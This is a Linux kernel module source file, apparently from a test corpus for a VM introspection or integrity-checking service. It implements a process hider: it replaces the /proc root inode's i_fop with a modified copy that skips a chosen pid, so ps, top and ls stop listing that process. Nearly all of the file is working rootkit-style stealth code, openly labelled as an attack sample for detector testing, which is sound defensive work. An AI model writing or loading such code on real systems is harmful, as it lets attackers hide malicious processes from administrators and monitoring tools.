// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_procroot: a process hider, for the integrity tests. The
 * root inode of the mounted /proc got its file operations from
 * proc_root (proc_root_operations) when /proc was mounted; the module
 * points the inode's i_fop at a writable copy in its own memory whose
 * iterate_shared skips the directory named @name (a pid), so ps, top and
 * ls /proc no longer list that process. The hidden entries are counted in
 * @hits. The task lists, proc_root and every kernel table are intact:
 * the only change is one pointer in the inode. Unloading puts it back.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/err.h>
#include <linux/fs.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/string.h>

#include "vmiaas_attack_dirhide.h"

static char *name = "1";
module_param(name, charp, 0444);
MODULE_PARM_DESC(name, "the /proc entry to hide (a pid)");

static unsigned int hits;
module_param(hits, uint, 0444);
MODULE_PARM_DESC(hits, "times the entry was skipped");

static const struct file_operations *orig_fop;
static struct inode *root_inode;
/* the writable copy of the table: its function pointers, one replaced */
static void *hide_fop[64];

/* Whether @entry is the entry to hide; counted in @hits. */
static bool vmiaas_attack_procroot_hidden(const char *entry, int len)
{
	return dirhide_match(name, entry, len, &hits);
}

static int vmiaas_attack_procroot_iterate(struct file *file,
					  struct dir_context *ctx)
{
	return dirhide_iterate(orig_fop, file, ctx,
			       vmiaas_attack_procroot_hidden);
}

static int __init vmiaas_attack_procroot_init(void)
{
	struct file *f = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);

	if (IS_ERR(f))
		return PTR_ERR(f);
	root_inode = file_inode(f);
	ihold(root_inode);
	filp_close(f, NULL);
	orig_fop = root_inode->i_fop;
	BUILD_BUG_ON(sizeof(*orig_fop) > sizeof(hide_fop));
	memcpy(hide_fop, orig_fop, sizeof(*orig_fop));
	hide_fop[offsetof(typeof(*orig_fop), iterate_shared) / sizeof(void *)] =
		vmiaas_attack_procroot_iterate;
	WRITE_ONCE(root_inode->i_fop, (const void *)hide_fop);
	pr_info("/proc root inode i_fop %ps -> the module's copy: /proc/%s hidden\n",
		orig_fop, name);
	return 0;
}

static void __exit vmiaas_attack_procroot_exit(void)
{
	WRITE_ONCE(root_inode->i_fop, orig_fop);
	iput(root_inode);
	pr_info("/proc root inode i_fop restored after %u hidden entries\n", hits);
}

module_init(vmiaas_attack_procroot_init);
module_exit(vmiaas_attack_procroot_exit);

MODULE_DESCRIPTION("vmiaas attack corpus: /proc root inode i_fop swap");
MODULE_AUTHOR("vmiaas developers");
MODULE_LICENSE("GPL");
